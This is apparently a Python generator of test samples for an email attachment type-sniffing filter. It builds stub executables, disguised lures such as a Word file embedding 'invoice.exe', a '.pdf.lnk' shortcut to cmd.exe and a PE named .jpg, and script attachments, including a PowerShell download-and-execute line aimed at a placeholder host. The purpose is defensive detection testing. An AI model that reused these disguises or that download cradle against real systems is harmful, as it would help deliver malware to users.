# Samples of the type classes (sniff/): native executables other than PE
# (ELF, Mach-O thin and universal, compound files with a program stream),
# shortcuts, scripts, disk images, Office documents (false positives), a
# PE named .jpg, and broken libmagic databases.
# usage: sniff.py OUTDIR   (the sample runner's @GEN@)
import base64, io, os, struct, sys, zipfile

out = sys.argv[1]


def w(name, data):
    with open(os.path.join(out, name), 'wb') as f:
        f.write(data if isinstance(data, bytes) else data.encode('latin-1'))


def pe(size=512):
    b = bytearray(size)
    b[0:2] = b'MZ'
    struct.pack_into('<HHHH', b, 2, 0x90, 3, 0, 4)
    struct.pack_into('<I', b, 0x3c, 0x80)
    b[0x80:0x84] = b'PE\0\0'
    struct.pack_into('<H', b, 0x84, 0x14c)
    return bytes(b)


PE = pe()


def elf():
    """A 64-bit little-endian ELF executable header, x86-64, and some code."""
    h = b'\x7fELF' + bytes([2, 1, 1, 0]) + bytes(8)
    h += struct.pack('<HHIQQQIHHHHHH', 2, 0x3e, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    return h + bytes(range(256)) * 4


def macho():
    """A thin 64-bit Mach-O (MH_MAGIC_64 little-endian, x86_64, MH_EXECUTE)."""
    return struct.pack('<IiiIIII', 0xfeedfacf, 0x01000007, 3, 2, 0, 0, 0) + bytes(4) + bytes(range(256)) * 4


def macho_fat():
    """A universal binary: FAT_MAGIC, two architectures (x86_64, arm64)."""
    thin = macho()
    h = struct.pack('>II', 0xcafebabe, 2)
    h += struct.pack('>iiIII', 0x01000007, 3, 4096, len(thin), 12)
    h += struct.pack('>iiIII', 0x0100000c, 0, 8192, len(thin), 14)
    b = bytearray(8192 + len(thin))
    b[0:len(h)] = h
    b[4096:4096 + len(thin)] = thin
    b[8192:] = thin
    return bytes(b)


def java_class():
    """CAFEBABE too, but a Java class (major 52): not Mach-O."""
    return struct.pack('>IHH', 0xcafebabe, 0, 52) + bytes(range(200))


MSI_CLSID = bytes.fromhex('84100c0000000000c000000000000046')
DOC_CLSID = bytes.fromhex('0609020000000000c000000000000046')
END, FREE, FATSECT = 0xfffffffe, 0xffffffff, 0xfffffffd


def ole(streams, clsid=b'\0' * 16):
    """A compound file (MS-CFB v3, 512-byte sectors): streams under 4096
    bytes in the mini stream, the others in FAT chains; one FAT sector."""
    S = 512
    mini = [(n, d) for n, d in streams if len(d) < 4096]
    big = [(n, d) for n, d in streams if len(d) >= 4096]
    ministream = b''
    mini_start = {}
    minifat = []
    for n, d in mini:
        k = (len(d) + 63) // 64
        mini_start[n] = len(ministream) // 64
        minifat += [len(minifat) + i + 1 for i in range(k - 1)] + [END]
        ministream += d + bytes(k * 64 - len(d))
    sectors = []   # (data, chain kind)
    fat = []

    def add(data):
        k = max(1, (len(data) + S - 1) // S)
        first = len(fat)
        for i in range(k):
            fat.append(first + i + 1 if i < k - 1 else END)
            sectors.append(data[i * S:(i + 1) * S].ljust(S, b'\0'))
        return first

    fat.append(FATSECT)
    sectors.append(None)          # the FAT itself, sector 0
    nent = 1 + len(streams)
    dir_first = add(bytes(((nent + 3) // 4) * 512))
    mf = b''.join(struct.pack('<I', x) for x in minifat)
    minifat_first = add(mf) if mini else END
    ms_first = add(ministream) if mini else END
    big_start = {n: add(d) for n, d in big}

    def entry(name, typ, child, right, start, size, cls=b'\0' * 16):
        u = (name + '\0').encode('utf-16-le')
        e = u.ljust(64, b'\0') + struct.pack('<HBB', len(u), typ, 1)
        e += struct.pack('<III', 0xffffffff, right, child) + cls + bytes(4 + 16)
        return e + struct.pack('<II', start, size) + bytes(4)

    ents = [entry('Root Entry', 5, 1 if streams else 0xffffffff, 0xffffffff, ms_first,
                  len(ministream), clsid)]
    for i, (n, d) in enumerate(streams):
        right = i + 2 if i + 1 < len(streams) else 0xffffffff
        start = mini_start[n] if len(d) < 4096 else big_start[n]
        ents.append(entry(n, 2, 0xffffffff, right, start, len(d)))
    dirdata = b''.join(ents).ljust(((nent + 3) // 4) * 512, b'\0')
    for i in range(len(dirdata) // S):
        sectors[dir_first + i] = dirdata[i * S:(i + 1) * S]
    assert len(fat) <= S // 4
    sectors[0] = b''.join(struct.pack('<I', x) for x in fat).ljust(S, b'\xff')
    hdr = bytes.fromhex('d0cf11e0a1b11ae1') + bytes(16) + struct.pack('<HHHHH', 0x3e, 3, 0xfffe, 9, 6)
    hdr += bytes(6) + struct.pack('<IIIIIIIII', 0, 1, dir_first, 0, 4096, minifat_first,
                                  1 if mini else 0, END, 0)
    hdr += struct.pack('<I', 0) + b'\xff' * (109 * 4 - 4)
    assert len(hdr) == 512
    return hdr + b''.join(sectors)


def ole10native(name, data):
    body = struct.pack('<H', 2) + name.encode() + b'\0' + (b'C:\\' + name.encode()) + b'\0'
    body += struct.pack('<HH', 0, 3)
    cmd = b'C:\\' + name.encode() + b'\0'
    body += struct.pack('<I', len(cmd)) + cmd + struct.pack('<I', len(data)) + data
    return struct.pack('<I', len(body)) + body


TABLE = bytes(range(256)) * 20        # 5 KB of something that is no program
MSI_PE = ole([('\u4840\u3f3f\u4577\u6c3e', TABLE[:1000]), ('Binary.CustomAction', PE),
              ('\u0005SummaryInformation', TABLE[:400])], MSI_CLSID)
MSI_PE_BIG = ole([('Binary.Big', PE + TABLE), ('Other', TABLE)], MSI_CLSID)
MSI_CLEAN = ole([('\u4840\u3f3f\u4577\u6c3e', TABLE[:1000]), ('Table', TABLE)], MSI_CLSID)
DOC_PACKAGE = ole([('WordDocument', TABLE), ('\u0001Ole10Native', ole10native('invoice.exe', PE))],
                  DOC_CLSID)
DOC_CLEAN = ole([('WordDocument', TABLE), ('\u0001CompObj', TABLE[:100])], DOC_CLSID)
# a FAT whose chains loop: the directory cannot be followed
DAMAGED = bytearray(DOC_CLEAN)
struct.pack_into('<I', DAMAGED, 512 + 4 * 1, 1)    # the directory's sector points at itself
DAMAGED = bytes(DAMAGED)

# a Windows shortcut: HeaderSize, LinkCLSID, flags, then filler
LNK = struct.pack('<I', 0x4c) + bytes.fromhex('0114020000000000c000000000000046') + \
    struct.pack('<II', 0x9b, 0x20) + bytes(0x4c - 28) + b'C:\\Windows\\System32\\cmd.exe\0' * 4


def iso():
    """An ISO 9660 image: 16 empty sectors, then a primary volume descriptor."""
    b = bytearray(2048 * 20)
    b[0x8000:0x8007] = b'\x01CD001\x01'
    b[0x8008:0x8028] = b' ' * 32
    b[0x8028:0x8048] = b'INVOICE'.ljust(32)
    b[0x8800:0x8807] = b'\xffCD001\x01'
    b[0x9000:0x9000 + 4096] = PE * 8
    return bytes(b)


def vhd_fixed():
    """A fixed VHD: a raw disk with an empty first sector and a 512-byte footer."""
    disk = bytearray(64 * 1024)
    disk[0x4000:0x4000 + len(PE)] = PE
    footer = bytearray(512)
    footer[0:8] = b'conectix'
    struct.pack_into('>II', footer, 8, 2, 0x10000)
    footer[0x3c:0x40] = struct.pack('>I', 2)
    return bytes(disk) + bytes(footer)


def vhdx():
    b = bytearray(64 * 1024)
    b[0:8] = b'vhdxfile'
    b[8:8 + 10] = 'qfilter'.encode('utf-16-le')[:10]
    return bytes(b)


def raw_img():
    """A disk image with a master boot record: one FAT32 partition."""
    b = bytearray(32 * 1024)
    b[446:462] = bytes([0x80, 1, 1, 0, 0x0c, 0xfe, 0xff, 0xff]) + struct.pack('<II', 2048, 60000)
    b[510:512] = b'\x55\xaa'
    return bytes(b)


SCRIPTS = {
    'hta': ('application/hta', 'update.hta',
            '<html><head><HTA:APPLICATION ID="u" APPLICATIONNAME="update"/>\n'
            '<script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script></head></html>\n'),
    'js': ('application/javascript', 'invoice.js',
           'var s = new ActiveXObject("WScript.Shell");\ns.Run("calc.exe");\n'),
    'jse': ('application/octet-stream', 'invoice.jse', '#@~^GQAAAA==\\ko$K6,J@!8D@*J@#@&@#@&wQcAAA==^#~@\n'),
    'vbs': ('text/vbscript', 'invoice.vbs', 'Set s = CreateObject("WScript.Shell")\ns.Run "calc.exe"\n'),
    'vbe': ('application/octet-stream', 'invoice.vbe', '#@~^GQAAAA==\\ko$K6,J@!8D@*J@#@&@#@&wQcAAA==^#~@\n'),
    'wsf': ('text/xml', 'invoice.wsf',
            '<?xml version="1.0"?>\n<package><job id="x"><script language="VBScript">MsgBox 1'
            '</script></job></package>\n'),
    'wsh': ('application/octet-stream', 'invoice.wsh', '[ScriptFile]\nPath=C:\\x.vbs\n[Options]\nTimeout=0\n'),
    'ps1': ('application/octet-stream', 'invoice.ps1',
            '$c = New-Object System.Net.WebClient\nInvoke-Expression $c.DownloadString("http://x")\n'),
    'bat': ('application/octet-stream', 'invoice.bat', '@echo off\r\nstart calc.exe\r\n'),
    'cmd': ('application/octet-stream', 'invoice.cmd', '@echo off\r\nstart calc.exe\r\n'),
}
# content only: libmagic names a batch file and a node script whatever their name
BY_CONTENT = {
    'bat': ('application/octet-stream', 'notes.dat', '@echo off\r\nstart calc.exe\r\n'),
    'js': ('application/octet-stream', 'notes.dat', '#!/usr/bin/env node\nrequire("child_process").exec("calc")\n'),
    'hta': ('text/html', 'page.html',
            '<html><head><hta:application id="u"/><script>new ActiveXObject("WScript.Shell")'
            '.Run("calc")</script></head></html>\n'),
    'vbe': ('application/octet-stream', 'notes.dat', '#@~^GQAAAA==\\ko$K6,J@!8D@*J@#@&@#@&wQcAAA==^#~@\n'),
}


def office(kind):
    """An Office document as its writers make it: a zip whose first entry
    says what it is ([Content_Types].xml, or an uncompressed mimetype)."""
    z = io.BytesIO()
    with zipfile.ZipFile(z, 'w', zipfile.ZIP_DEFLATED) as zf:
        if kind == 'odt':
            zf.writestr(zipfile.ZipInfo('mimetype'), 'application/vnd.oasis.opendocument.text',
                        compress_type=zipfile.ZIP_STORED)
            zf.writestr('content.xml', '<?xml version="1.0"?><office:document-content/>')
            zf.writestr('META-INF/manifest.xml', '<?xml version="1.0"?><manifest:manifest/>')
        else:
            main = {'docx': ('word/document.xml', 'wordprocessingml.document.main'),
                    'xlsx': ('xl/workbook.xml', 'spreadsheetml.sheet.main'),
                    'pptx': ('ppt/presentation.xml', 'presentationml.presentation.main')}[kind]
            zf.writestr('[Content_Types].xml',
                        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
                        'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
                        '<Override PartName="/%s" ContentType="application/vnd.openxmlformats-officedocument.'
                        '%s+xml"/></Types>' % main)
            zf.writestr('_rels/.rels', '<?xml version="1.0"?><Relationships/>')
            zf.writestr(main[0], '<?xml version="1.0"?><document>quarterly figures</document>')
    return z.getvalue()


OFFICE_TYPES = {
    'docx': 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    'xlsx': 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    'pptx': 'application/vnd.openxmlformats-officedocument.presentationml.presentation',
    'odt': 'application/vnd.oasis.opendocument.text',
}


def hdr(subj):
    return ('From: Sender <sender@example.net>\nTo: rcpt@example.com\nSubject: %s\n'
            'Date: Sat, 21 Nov 2026 10:00:00 +0000\nMessage-ID: <%s@example.net>\nMIME-Version: 1.0\n'
            % (subj, subj.replace(' ', '.')))


def message(subj, ctype, name, data):
    data = data.encode('latin-1') if isinstance(data, str) else data
    return (hdr(subj) + 'Content-Type: multipart/mixed; boundary="=_s"\n\n--=_s\n'
            'Content-Type: text/plain; charset=us-ascii\n\nsee attached\n\n--=_s\n'
            'Content-Type: %s; name="%s"\nContent-Disposition: attachment; filename="%s"\n'
            'Content-Transfer-Encoding: base64\n\n%s--=_s--\n'
            % (ctype, name, name, base64.encodebytes(data).decode()))


def zip_of(name, data):
    z = io.BytesIO()
    with zipfile.ZipFile(z, 'w', zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(name, data)
    return z.getvalue()


binaries = {
    'elf': ('application/octet-stream', 'tool', elf()),
    'macho': ('application/octet-stream', 'tool', macho()),
    'macho-fat': ('application/octet-stream', 'tool', macho_fat()),
    'java-class': ('application/java-vm', 'Main.class', java_class()),
    'elf-zip': ('application/zip', 'tools.zip', zip_of('bin/tool', elf())),
    'msi-pe': ('application/x-msi', 'setup.msi', MSI_PE),
    'msi-pe-big': ('application/octet-stream', 'setup.bin', MSI_PE_BIG),
    'msi-clean': ('application/x-msi', 'setup.msi', MSI_CLEAN),
    'doc-package': ('application/msword', 'invoice.doc', DOC_PACKAGE),
    'doc-clean': ('application/msword', 'report.doc', DOC_CLEAN),
    'ole-damaged': ('application/msword', 'report.doc', DAMAGED),
    'lnk': ('application/octet-stream', 'invoice.pdf.lnk', LNK),
    'lnk-renamed': ('application/octet-stream', 'invoice.dat', LNK),
    'iso': ('application/octet-stream', 'invoice.img', iso()),
    'vhd': ('application/octet-stream', 'disk.dat', vhd_fixed()),
    'vhdx': ('application/octet-stream', 'disk.dat', vhdx()),
    'img': ('application/octet-stream', 'usb.dat', raw_img()),
    'pe-as-jpg': ('image/jpeg', 'photo.jpg', PE),
    'zip-plain': ('application/zip', 'files.zip', zip_of('readme.txt', 'hello\n' * 50)),
    # archive members are read whole: an MSI's program stream in a FAT
    # chain, and a document's embedded package, are found inside a zip
    'msi-pe-big-zip': ('application/zip', 'setup.zip', zip_of('setup.msi', MSI_PE_BIG)),
    'doc-package-zip': ('application/zip', 'docs.zip', zip_of('invoice.doc', DOC_PACKAGE)),
    'ole-damaged-zip': ('application/zip', 'docs.zip', zip_of('report.doc', DAMAGED)),
    # an ELF program under a name the site bans
    'elf-exe-zip': ('application/zip', 'tools.zip', zip_of('tool.exe', elf())),
}
for k, (ct, name, data) in binaries.items():
    w('sniff-%s.eml' % k, message('sniff ' + k, ct, name, data))
    w('sniff-%s.bin' % k, data)
for k, (ct, name, text) in SCRIPTS.items():
    w('sniff-script-%s.eml' % k, message('script ' + k, ct, name, text))
for k, (ct, name, text) in BY_CONTENT.items():
    w('sniff-content-%s.eml' % k, message('content ' + k, ct, name, text))
for k, ct in OFFICE_TYPES.items():
    data = office(k)
    w('sniff-office-%s.eml' % k, message('office ' + k, ct, 'report.' + k, data))
    w('sniff-office-%s.bin' % k, data)
    # the same document sent as octet-stream under its own name
    w('sniff-office-%s-octet.eml' % k, message('office octet ' + k, 'application/octet-stream',
                                                'report.' + k, data))

# libmagic databases that do not load: garbage, and a compiled one cut short
w('magic-garbage.mgc', b'this is not a magic database\n' * 20)
with open('/usr/lib/file/magic.mgc', 'rb') as f:
    w('magic-truncated.mgc', f.read(100000))
